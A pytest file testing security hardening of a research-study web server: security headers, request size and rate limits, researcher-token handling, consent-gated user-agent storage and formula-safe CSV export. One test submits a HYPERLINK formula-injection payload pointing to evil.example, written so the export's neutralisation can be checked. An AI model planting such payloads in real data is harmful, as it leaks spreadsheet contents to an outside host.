"""The server on the open internet (issue #15, "Security and hygiene"): body limit, security
headers, formula-safe CSV, per-client limits, assignment by participant (not arrival), the
researcher token, the user agent only when collected, the export's config, load time."""

from __future__ import annotations

import io
import json
import logging
import math
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from emogen import columns as tidy
from emogen.errors import ConfigError
from emogen.study.config import DEFAULT_CONSENT, StudyConfig, study_from_dict
from emogen.study.design import balanced_latin_square, participant_slot, trial_order
from emogen.study.export import export_tables, neutralise_formulas, write_export
from emogen.web.ratelimit import RateLimit, TokenBuckets
from emogen.web.schemas import MAX_BODY_BYTES
from tests.study.conftest import SMALL_STUDY
from tests.study.drive import new_key

TOKEN = "researcher-secret-0123456789-abcdefghij"
AUTH = {"Authorization": f"Bearer {TOKEN}"}


def make_app(tmp_path: Path, model: Any, name: str = "app", **options: Any) -> Any:
    from emogen.web import create_app

    study = options.pop("study", SMALL_STUDY)
    options.setdefault("session_limit", RateLimit.parse("off"))
    return create_app(
        study_from_dict(study),
        f"sqlite:///{tmp_path / (name + '.sqlite')}",
        model=model,
        researcher_token=options.pop("researcher_token", TOKEN),
        **options,
    )


@pytest.fixture
def client(tmp_path: Path, ict_model: Any) -> Iterator[TestClient]:
    app = make_app(tmp_path, ict_model)
    with TestClient(app) as c:
        yield c


# ---- 1. request body limit -------------------------------------------------------------------


def test_a_body_over_the_limit_is_413_with_the_security_headers(client: TestClient) -> None:
    body = b'{"participant_id": "' + b"x" * (MAX_BODY_BYTES + 1) + b'"}'
    r = client.post("/api/sessions", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 413 and str(MAX_BODY_BYTES) in r.json()["detail"]
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted while read
        yield b'{"participant_id": "'
        for _ in range(MAX_BODY_BYTES // 1024 + 2):
            yield b"y" * 1024

    r = client.post("/api/sessions", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413


# ---- 2. headers ------------------------------------------------------------------------------


def _csp(header: str) -> dict[str, list[str]]:
    out = {}
    for part in header.split(";"):
        name, *values = part.split()
        out[name] = values
    return out


def test_every_page_and_answer_has_the_security_headers(client: TestClient) -> None:
    token = client.post("/api/sessions", json={"participant_id": "H-1"}).json()["token"]
    for path in (
        "/",
        f"/s/{token}",
        f"/api/s/{token}/state",
        "/healthz",
        "/researcher",
        "/api/s/" + "A" * 32 + "/state",
        "/openapi.json",
    ):
        r = client.get(path)
        assert r.status_code in (200, 404), path
        csp = _csp(r.headers["content-security-policy"])
        assert csp["script-src"] == ["'self'"], path  # no inline script, no eval
        assert csp["frame-ancestors"] == ["'none'"] and csp["object-src"] == ["'none'"]
        assert csp["img-src"] == ["'self'", "data:", "blob:"]  # the viewer's GLB textures
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["referrer-policy"] == "no-referrer"  # session tokens are in URLs
        assert r.headers["x-content-type-options"] == "nosniff"
        assert "strict-transport-security" not in r.headers  # only when told (behind TLS)


def test_hsts_is_sent_when_the_server_is_told_it_is_behind_tls(tmp_path, ict_model) -> None:
    with TestClient(make_app(tmp_path, ict_model, hsts=True)) as c:
        hsts = c.get("/").headers["strict-transport-security"]
    assert hsts.startswith("max-age=31536000")


def test_the_pages_have_no_inline_script_or_style() -> None:
    templates = Path(__file__).parents[2] / "src" / "emogen" / "web" / "templates"
    for page in templates.glob("*.html"):
        text = page.read_text()
        assert "<style" not in text and " style=" not in text, page.name
        for tag in text.split("<script")[1:]:
            assert 'src="/static/' in tag.split(">")[0], page.name
        assert " onclick=" not in text and " onload=" not in text, page.name


# ---- 3. CSV formula injection ----------------------------------------------------------------


def test_formula_cells_are_neutralised_and_numbers_are_not() -> None:
    df = pd.DataFrame(
        {
            "text": ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "plain", None],
            "number": [-1.5, -2.0, 3.0, 0.0, -0.0, 1e-9, -7.0, 2.0],
            "integer": [-1, -2, 3, 4, 5, 6, -7, 8],
        }
    )
    safe = neutralise_formulas(df)
    assert safe["text"].tolist()[:7] == [
        "'=1+2",
        "'+SUM(A1)",
        "'-2+3",
        "'@cmd",
        "'\tx",
        "'\rx",
        "plain",
    ]
    assert pd.isna(safe["text"][7])
    assert safe["number"].equals(df["number"]) and safe["integer"].equals(df["integer"])
    assert df["text"][0] == "=1+2"  # the frame given is not changed


def test_csv_exports_are_formula_safe_and_parquet_keeps_raw_values(
    tmp_path: Path, ict_model: Any
) -> None:
    study = {**SMALL_STUDY, "collect_user_agent": True}
    agent = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with TestClient(make_app(tmp_path, ict_model, study=study)) as c:
        r = c.post("/api/sessions", json={"participant_id": "F-1"}, headers={"User-Agent": agent})
        assert r.status_code == 201
        csv = c.get("/api/researcher/export/sessions.csv", headers=AUTH)
        assert csv.status_code == 200
        row = pd.read_csv(io.StringIO(csv.text)).iloc[0]
        assert row["user_agent"] == "'" + agent and int(row["seed"].removeprefix("s")) > 0
        tables = export_tables(c.app.state.store)
    write_export(tables, tmp_path / "csv", "csv")
    write_export(tables, tmp_path / "pq", "parquet")
    assert pd.read_csv(tmp_path / "csv" / "sessions.csv")["user_agent"][0] == "'" + agent
    assert pd.read_parquet(tmp_path / "pq" / "sessions.parquet")["user_agent"][0] == agent
    # negative numbers stay numbers in CSV: genes and weights can be negative
    # (read with emogen's reader: this faces table is empty, and its columns stay typed)
    faces = tidy.read_csv(tmp_path / "csv" / "faces.csv")
    assert all(faces[c].dtype.kind == "f" for c in faces.columns if c.startswith("g_"))
    # a session without its user agent has it NA: an empty cell in CSV, null in Parquet


# ---- 4. session creation: limit per client, assignment by participant ---------------------


def test_session_creation_is_limited_per_client(tmp_path: Path, ict_model: Any) -> None:
    app = make_app(tmp_path, ict_model, session_limit=RateLimit(burst=3, per_minute=2))
    with TestClient(app) as c, TestClient(app, client=("10.0.0.2", 4000)) as other:
        start = time.monotonic()
        for i in range(3):
            assert c.post("/api/sessions", json={}).status_code == 201, i
        r = c.post("/api/sessions", json={"participant_id": "L-1"})
        assert r.status_code == 429
        wait = int(r.headers["retry-after"])  # a token is back 30 s after the first was taken
        assert 30 - math.ceil(time.monotonic() - start) <= wait <= 30, wait
        assert "too many new sessions" in r.json()["detail"] and f"{wait} s" in r.json()["detail"]
        assert other.post("/api/sessions", json={"participant_id": "L-1"}).status_code == 201
        op = c.get("/openapi.json").json()["paths"]["/api/sessions"]["post"]["responses"]
        assert "Retry-After" in op["429"]["headers"]


def test_token_buckets_refill_with_time() -> None:
    now = [0.0]
    buckets = TokenBuckets(RateLimit(burst=2, per_minute=6), clock=lambda: now[0])
    assert buckets.take("a") == 0 and buckets.take("a") == 0
    assert buckets.take("a") == pytest.approx(10.0)
    assert buckets.take("b") == 0  # per client
    now[0] = 10.0
    assert buckets.take("a") == 0
    assert RateLimit.parse("5/min,burst=10") == RateLimit(burst=10, per_minute=5)
    with pytest.raises(ValueError, match="'lots'"):
        RateLimit.parse("lots")


def _assignments(client: TestClient, ids: list[str]) -> dict[str, tuple[int, int, str]]:
    from sqlalchemy import select

    from emogen.study.tables import SessionRow

    for pid in ids:
        assert client.post("/api/sessions", json={"participant_id": pid}).status_code == 201
    with client.app.state.store.read() as db:
        rows = db.scalars(select(SessionRow)).all()
        return {r.participant_id: (r.seed, r.order_row, r.trial_order) for r in rows}


def test_anonymous_sessions_shift_no_one_s_seed_or_order(tmp_path: Path, ict_model: Any) -> None:
    study = {**SMALL_STUDY, "emotions": ["happy", "sad", "angry", "fear"], "order": "latin_square"}
    ids = ["P-1", "P-2", "P-3"]
    with TestClient(make_app(tmp_path, ict_model, "a", study=study)) as c:
        first = _assignments(c, ids)
    with TestClient(make_app(tmp_path, ict_model, "b", study=study)) as c:
        for _ in range(7):  # arrivals before them, anonymous
            assert c.post("/api/sessions", json={}).status_code == 201
        later = _assignments(c, list(reversed(ids)))
    assert {p: later[p] for p in ids} == first


def test_latin_square_rows_stay_balanced_over_participants() -> None:
    cfg = study_from_dict({"emotions": ["a", "b", "c", "d"], "order": "latin_square", "seed": 99})
    n_rows = len(balanced_latin_square(cfg.n_trials))
    ids = [f"PROLIFIC-{i:05d}" for i in range(120)]
    rows = Counter(
        trial_order(cfg, slot=participant_slot(cfg, p), rng=None).row  # type: ignore[arg-type]
        for p in ids
    )
    expected = len(ids) / n_rows  # 30 a row; a binomial's sd is √(120·¼·¾) ≈ 4.7
    assert set(rows) == set(range(n_rows))
    assert all(abs(n - expected) <= 12 for n in rows.values()), rows


# ---- 5. researcher token -------------------------------------------------------------------


def test_wrong_researcher_tokens_are_limited_and_compared_in_constant_time(
    tmp_path: Path, ict_model: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hmac

    import emogen.web.researcher as researcher

    compared = []
    real = hmac.compare_digest

    def compare(a: bytes, b: bytes) -> bool:
        compared.append((a, b))
        return real(a, b)

    monkeypatch.setattr(researcher.hmac, "compare_digest", compare)
    app = make_app(tmp_path, ict_model, researcher_failure_limit=RateLimit(burst=3, per_minute=3))
    with TestClient(app) as c, TestClient(app, client=("10.0.0.9", 1)) as other:
        assert c.get("/api/researcher/status", headers=AUTH).status_code == 200
        start = time.monotonic()
        for _ in range(3):
            bad = c.get("/api/researcher/status", headers={"Authorization": "Bearer guess"})
            assert bad.status_code == 403
        r = c.get("/api/researcher/status", headers=AUTH)  # blocked while the limit lasts
        wait = int(r.headers["retry-after"])  # 20 s after the first wrong token was counted
        assert r.status_code == 429 and 20 - math.ceil(time.monotonic() - start) <= wait <= 20
        assert "wrong researcher tokens" in r.json()["detail"]
        assert other.get("/api/researcher/status", headers=AUTH).status_code == 200
    assert compared and all(b == TOKEN.encode() for _, b in compared)


def test_the_researcher_token_is_never_logged(
    client: TestClient, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.DEBUG)
    client.get("/api/researcher/status", headers=AUTH)
    client.get("/api/researcher/status", headers={"Authorization": f"Bearer {TOKEN}x"})
    client.get("/api/researcher/export/sessions.csv", headers=AUTH)
    assert TOKEN not in caplog.text
    # the server runs without an access log (session links carry their token in the path)
    import uvicorn

    import emogen.study.config as config
    from emogen.web import app as web_app
    from emogen.web import server

    monkeypatch.setattr(config, "load_study_config", lambda path: study_from_dict(SMALL_STUDY))
    seen: dict[str, Any] = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: seen.update(kw))
    monkeypatch.setattr(web_app, "create_app", lambda *a, **kw: _FakeApp())
    from tests.web.test_serve_start import free_port

    server.run_server(
        Path("x.toml"), announce=False, session_limit="off", workers=1, port=free_port()
    )
    assert seen["access_log"] is False


class _FakeApp:
    """An app whose face models are made at once (the server asks for them before it listens)."""

    state = SimpleNamespace(glbs=SimpleNamespace(make_all=lambda: None))


def test_researcher_page_says_when_the_api_is_disabled(tmp_path: Path, ict_model: Any) -> None:
    with TestClient(make_app(tmp_path, ict_model, researcher_token="")) as c:
        page = c.get("/researcher")
        api = c.get("/api/researcher/status", headers=AUTH)
    assert page.status_code == 200 and "researcher API is disabled" in page.text
    assert "EMOGEN_RESEARCHER_TOKEN" in page.text and 'id="token-form"' not in page.text
    assert api.status_code == 403 and "disabled" in api.json()["detail"]


# ---- 6. user agent only when collected -------------------------------------------------------


def test_user_agent_is_not_stored_unless_the_study_collects_it(
    tmp_path: Path, ict_model: Any
) -> None:
    assert StudyConfig().collect_user_agent is False
    with TestClient(make_app(tmp_path, ict_model, "off")) as c:
        c.post("/api/sessions", json={"participant_id": "U-1"}, headers={"User-Agent": "Agent/1"})
        sessions = export_tables(c.app.state.store)["sessions"]
        assert "user agent" not in c.get("/").text
    assert sessions["user_agent"].isna().all()
    on = {**SMALL_STUDY, "collect_user_agent": True}
    assert "user agent" in study_from_dict(on).consent
    own = "Own text; your browser's User-Agent is recorded."
    assert study_from_dict({**on, "consent": own}).consent == own
    with pytest.raises(
        ConfigError, match=r"consent text does not tell.*got consent = 'Own text\.'"
    ):
        study_from_dict({**on, "consent": "Own text."})  # collecting without saying so
    default = study_from_dict(SMALL_STUDY).consent
    assert "user agent" not in default and default.startswith(DEFAULT_CONSENT[:60])
    with TestClient(make_app(tmp_path, ict_model, "on", study=on)) as c:
        c.post("/api/sessions", json={"participant_id": "U-1"}, headers={"User-Agent": "Agent/1"})
        assert export_tables(c.app.state.store)["sessions"]["user_agent"].tolist() == ["Agent/1"]
        assert "user agent" in c.get("/?PROLIFIC_PID=U-2").text


# ---- 7. the export carries the config; load time apart ------------------------------------


def test_export_carries_the_config_and_load_time_is_apart(client: TestClient) -> None:
    r = client.post("/api/sessions", json={"participant_id": "E-1"})
    token = r.json()["token"]
    state = client.post(f"/api/s/{token}/step", json={"command": "begin", "key": new_key()}).json()
    shown = state["view"]["population"]
    body = {"key": new_key(), "trial": 0, "attempt": 0, "generation": 0,
            "elite": shown["faces"][0]["id"], "others": [], "load_ms": 3_600_000.0}  # fmt: skip
    assert (
        client.post(f"/api/s/{token}/step", json={"command": "select", **body}).status_code == 200
    )
    tables = export_tables(client.app.state.store)
    study = tables["study"].iloc[0]
    config = StudyConfig.model_validate(json.loads(study["config_json"]))
    assert config == client.app.state.config and config.config_hash() == study["study_config_hash"]
    sel = tables["selections"].iloc[0]
    # an hour of "loading" reported: the server's time does not count it
    assert sel["load_ms"] == 3_600_000.0 and sel["server_response_ms"] == 0.0
